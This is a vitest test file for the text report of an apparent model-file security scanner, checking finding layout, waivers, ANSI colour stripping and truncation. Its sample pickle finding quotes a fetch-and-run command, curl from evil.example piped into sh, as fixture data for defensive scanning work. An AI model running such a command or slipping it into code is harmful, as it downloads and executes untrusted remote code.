import { describe, expect, it } from 'vitest';
import { text } from '../../src/report/text.ts';
import { judged, realistic, reportOf } from './samples.ts';

describe('text', () => {
  it('lists findings by file, then what was not read, and ends with the decision', () => {
    expect(text(realistic())).toBe(`models/a.pt
  CRITICAL Runs a command when loaded [PICKLE-EXEC, block]
    calls os.system("curl https://evil.example/x | sh") when loaded (REDUCE at byte 41)
    at models/a.pt > archive/data.pkl @ byte 41, also at bytes 90, 120
    fix: Do not load it. Ask its author for \`safetensors\` weights.
  LOW Uses pickle [PICKLE-FORMAT, note]
    is a pickle
    at models/a.pt
    fix: Do not load it. Ask its author for \`safetensors\` weights.

train.ipynb
  MEDIUM Runs a shell command [NOTEBOOK-SHELL, review]
    cell 3 runs !pip install $PKG
    at train.ipynb:40:5 in cell 3
    fix: Pin the package.
    owners: @org/ml-security

Not inspected
  big.bin: its LFS object was not fetched (not-fetched)

Notices
  exception 2 for PICKLE-EXEC expired on 2026-01-01

1 finding waived. 1 finding already present before this change.
  HIGH PICKLE-EXEC at older.pkl @ byte 2

Blocked: 1 finding is CRITICAL, and CRITICAL blocks (3 files, 5.3 MB, 1.3 s)
`);
  });

  it('is one line when there is nothing to tell', () => {
    expect(text(reportOf())).toBe(
      'Passed: nothing in this change needs attention (3 files, 5.3 MB, 1.3 s)\n',
    );
  });

  it('shows five further offsets and counts the rest', () => {
    const report = reportOf({ findings: [judged({ moreOffsets: [1, 2, 3, 4, 5, 6, 7] })] });
    expect(text(report)).toContain('@ byte 41, also at bytes 1, 2, 3, 4, 5 and 2 more\n');
  });

  it('colours only when asked, and only with its own codes', () => {
    const report = reportOf({ findings: [judged({ title: '\u001b[32mfine' })] });
    expect(text(report)).not.toContain('\u001b');
    const coloured = text(report, { colour: true });
    expect(coloured).toContain('\u001b[31mCRITICAL\u001b[0m \\u{1b}[32mfine');
    expect(coloured).toContain('\u001b[32mPassed\u001b[0m');
  });

  it('keeps the offset in sight behind a long name', () => {
    const location = { path: 'a'.repeat(5000), members: ['b'.repeat(5000)], offset: 7 };
    expect(text(reportOf({ findings: [judged({ location })] }))).toMatch(/a… > b+… @ byte 7\n/);
  });
});
